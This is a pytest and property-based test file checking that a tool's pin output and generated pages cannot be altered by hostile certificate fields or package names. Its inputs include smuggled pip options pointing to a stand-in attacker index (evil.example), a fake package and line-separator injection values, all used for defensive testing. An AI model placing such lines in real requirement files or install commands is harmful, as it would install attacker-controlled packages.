"""What reaches `dgcompat pin` and the generated pages: exactly the requirements and lines dgcompat meant.

Certificates travel between teams and machines; their text (a device name, a verdict, a platform), a
distribution's name and a version must never become another requirement, an option (``--extra-index-url``)
or a comment for the program that reads the output. The consumer's own reading is the judge:
:meth:`str.splitlines` (pip's requirement-file reader splits with it), :class:`packaging.requirements.Requirement`
per line, and pip's own parser.

The property test generates hostile certificate fields (line separators, ``#``, leading ``-``, trailing
``\\``, ``|``, ``<!--``, controls, any other text) and checks every outcome: refused (exit 2, nothing on
stdout, one line naming the field) or printed with the meant requirements and line count only. A small,
derandomized run is in the default suite; ``-m property`` runs a large one
(``DGCOMPAT_PROPERTY_EXAMPLES``, default 3000). Each run prints how many cases it generated.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import tempfile
import warnings
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.version import Version

from dgcompat.detection import Release
from dgcompat_conformance import pins, report
from dgcompat_conformance.certificate import COMMITTED, Certificate

#: Every character str.splitlines() ends a line at (checked against Python itself below).
SEPARATORS = ("\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
#: What `dgcompat pin --release 0.1.4` means, whatever the certificates say.
MEANT = ["sgl-deep-gemm==0.1.4", "torch==2.11.*", "sglang-kernel>=0.4.3"]
INJECTED = ("--extra-index-url https://evil.example/simple", "-r evil.txt", "evilpkg==6.6.6", "-e .", "--hash=sha256:0")
# Certificate fields that reach pin output or a generated page; "verdict" is drawn as "incompatible: <text>"
# (the only free-text verdict the schema's vocabulary admits).
FIELDS = ("device.name", "device.sm", "verdict", "torch", "cuda", "driver", "python", "platform", "arch", "timestamp",
          "binding", "dgcompat_version")


def test_the_separators_are_exactly_what_python_splits_lines_at() -> None:
    from dgcompat_conformance._text import LINE_BREAKS, line_problem

    found = {c for c in map(chr, range(0x110000)) if len(f"a{c}b".splitlines()) == 2}
    assert found == set(SEPARATORS) == set(LINE_BREAKS)
    assert all(line_problem(f"a{c}b") for c in found)


def _committed(name: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((COMMITTED / name).read_text())
    return doc


def _mutated(field: str, text: str) -> dict[str, Any]:
    doc = _committed("gpu-0.1.4.json")
    if field.startswith("device."):
        doc["device"] = dict(doc["device"], **{field.split(".", 1)[1]: text})
    elif field == "verdict":
        doc["verdict"] = f"incompatible: {text}"
    else:
        doc[field] = text
    return doc


def _run(main: Any, argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(argv)
    return rc, out.getvalue(), err.getvalue()


def _pip_reads(text: str, folder: Path) -> list[str]:
    """The requirements pip itself reads from ``text`` (its requirement-file parser, options and all)."""
    path = folder / "requirements.txt"
    path.write_text(text, "utf-8")
    with warnings.catch_warnings():  # pip's vendored pkg_resources warns about itself
        warnings.simplefilter("ignore", DeprecationWarning)
        from pip._internal.network.session import PipSession
        from pip._internal.req.req_file import parse_requirements

        return [r.requirement for r in parse_requirements(str(path), session=PipSession())]


def _check_pin_output(out: str, folder: Path) -> None:
    """The printed pin holds MEANT, in order, one requirement per line, and comments; nothing else."""
    lines = out.splitlines()
    assert len(lines) == len(MEANT) + 1, lines
    requirements = [line for line in lines if not line.startswith("#")]
    assert [str(Requirement(line)) for line in requirements] == MEANT, lines
    assert all(line.startswith("# ") for line in lines if line not in requirements)
    assert _pip_reads(out, folder) == MEANT


@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(c):04X}" for c in SEPARATORS])
def test_no_line_separator_in_a_certificate_becomes_a_requirement(separator: str, tmp_path: Path) -> None:
    name = separator.join(["NVIDIA H200", "--extra-index-url https://evil.example/simple", "evilpkg==6.6.6"])
    (tmp_path / "gpu-0.1.4.json").write_text(json.dumps(_mutated("device.name", name)))
    rc, out, err = _run(pins.main, ["--release", "0.1.4", "--certificates", str(tmp_path)])
    assert (rc, out) == (2, ""), out
    assert len(err.splitlines()) == 1 and "device.name" in err and "gpu-0.1.4.json" in err, err
    for argv in (["--docs"], ["--release", "0.1.4"]):
        rc, out, _ = _run(pins.main, [*argv, "--certificates", str(tmp_path)])
        assert rc == 2 and "evil" not in out


@pytest.mark.parametrize("name", [
    "sgl-deep-gemm\u2028evilpkg==6.6.6", "sgl-deep-gemm\x85--extra-index-url https://evil.example/simple",
    "sgl-deep-gemm#", "--index-url=https://evil.example/simple", "-r evil.txt", "evil[extra]", "evil; os_name=='nt'",
    "evil @ https://evil.example/evil.whl", "evil\\", "evil pkg",
])
def test_a_hostile_distribution_name_is_refused_not_pinned(name: str, tmp_path: Path) -> None:
    # Names come from installed metadata (the stack doctor and `dgcompat pin` describe), not only from the command line.
    rel = Release(name, Version("1.0"), "unrelated", "unknown", "/x", None, None, None, None, False)
    with pytest.raises(ValueError, match="requirement"):
        pins.suggest(rel, tmp_path)


def test_doctor_never_suggests_a_pin_that_reads_as_more(monkeypatch: pytest.MonkeyPatch) -> None:
    from dgcompat_conformance import doctor

    rel = Release("evil\u2028--extra-index-url https://evil.example/simple\u2028evilpkg", Version("6.6.6"), "unrelated",
                  "unknown", "/x", None, None, None, None, False, refusal="unrelated")
    monkeypatch.setattr("dgcompat.detection.release", lambda: rel)
    data = doctor.collect(run_abi=False)
    assert all(len(p.splitlines()) == 1 and p.startswith("#") for p in data["pin"]), data["pin"]
    # A refused build gets no requirement at all: the comments say why and what to install instead.
    assert data["pin"][0].startswith("# no pin: dgcompat refuses the installed deep_gemm")
    assert "evil.example" not in "\n".join(data["pin"])


def test_conform_prints_one_line_per_certificate_whatever_it_holds() -> None:
    from dgcompat_conformance.report import conform_table, progress_line

    cert = replace(Certificate.from_json(_committed("cpu-0.1.4.json")), release="0.1.4\u2028evilpkg==6.6.6",
                   harness_error="boom\n  at x\x85y")
    assert len(progress_line(1, 1, cert).splitlines()) == 1
    assert len(conform_table([cert, Certificate.from_json(_committed("cpu-0.1.5.json"))]).splitlines()) == 4


# --------------------------------------------------------------------------- generated hostile certificates

_PIECES = st.one_of(
    st.sampled_from(SEPARATORS),
    st.sampled_from(("#", "-", "--", "\\", " ", "|", "<!--", "\t", "\x00", "\x1b[2J", "\u202e", "\u00a0", "${HOME}")),
    st.sampled_from(INJECTED),
    st.text(st.characters(codec="utf-8"), max_size=6),
    st.sampled_from(("NVIDIA H200", "sm90", "2.11.0+cu130", "13.0", "certified")),
)
HOSTILE = st.lists(_PIECES, max_size=8).map("".join)

COUNTS: Counter[str] = Counter()


def _page_shape(text: str) -> list[int]:
    """Per line, the number of table-cell borders a Markdown reader sees: ``|`` not escaped by an odd run of
    backslashes, on a table row (a line starting with ``|``); 0 for any other line."""
    return [len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) if line.startswith("|") else 0 for line in text.splitlines()]


def _one_case(field: str, text: str, kind: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        (folder / "gpu-0.1.4.json").write_text(json.dumps(_mutated(field, text)))
        rc, out, err = _run(pins.main, ["--release", "0.1.4", "--certificates", str(folder)])
        COUNTS[f"{kind}: generated"] += 1
        if rc == 2:
            COUNTS[f"{kind}: refused"] += 1
            assert out == "" and len(err.splitlines()) == 1 and "gpu-0.1.4.json" in err, (out, err)
            return
        assert rc == 0, err
        COUNTS[f"{kind}: printed"] += 1
        _check_pin_output(out, folder)
        # The generated pages: the same lines and cells as for an honest certificate, no comment opened.
        honest = folder / "honest"
        honest.mkdir()
        (honest / "gpu-0.1.4.json").write_text(json.dumps(_committed("gpu-0.1.4.json")))
        renders: tuple[Callable[[Path], str], ...] = (
            lambda f: report.compatibility_page(f),
            lambda f: report.gpu_compatibility_page(report.gpu_certificates(f)))
        for render in renders:
            page, clean = render(folder), render(honest)
            assert _page_shape(page) == _page_shape(clean) and "<!--" not in page


def _hostile_cases(examples: int, kind: str, derandomize: bool) -> None:
    @settings(max_examples=examples, deadline=None, derandomize=derandomize, database=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(data=st.data())
    def case(data: st.DataObject) -> None:
        field = data.draw(st.sampled_from(FIELDS), label="field")
        text = data.draw(HOSTILE, label="hostile text")
        _one_case(field, text, kind)

    case()
    print(", ".join(f"{key}: {COUNTS[key]}" for key in sorted(COUNTS) if key.startswith(kind)))
    # Both outcomes occurred: the generator reaches the refusals and the honest path alike.
    assert COUNTS[f"{kind}: refused"] and COUNTS[f"{kind}: printed"], COUNTS


def test_hostile_certificate_fields_never_change_what_pip_reads() -> None:
    _hostile_cases(25, "bounded", derandomize=True)  # 3000 in the property tier


@pytest.mark.property
def test_hostile_certificate_fields_never_change_what_pip_reads_large() -> None:
    _hostile_cases(int(os.environ.get("DGCOMPAT_PROPERTY_EXAMPLES", "3000")), "large", derandomize=False)
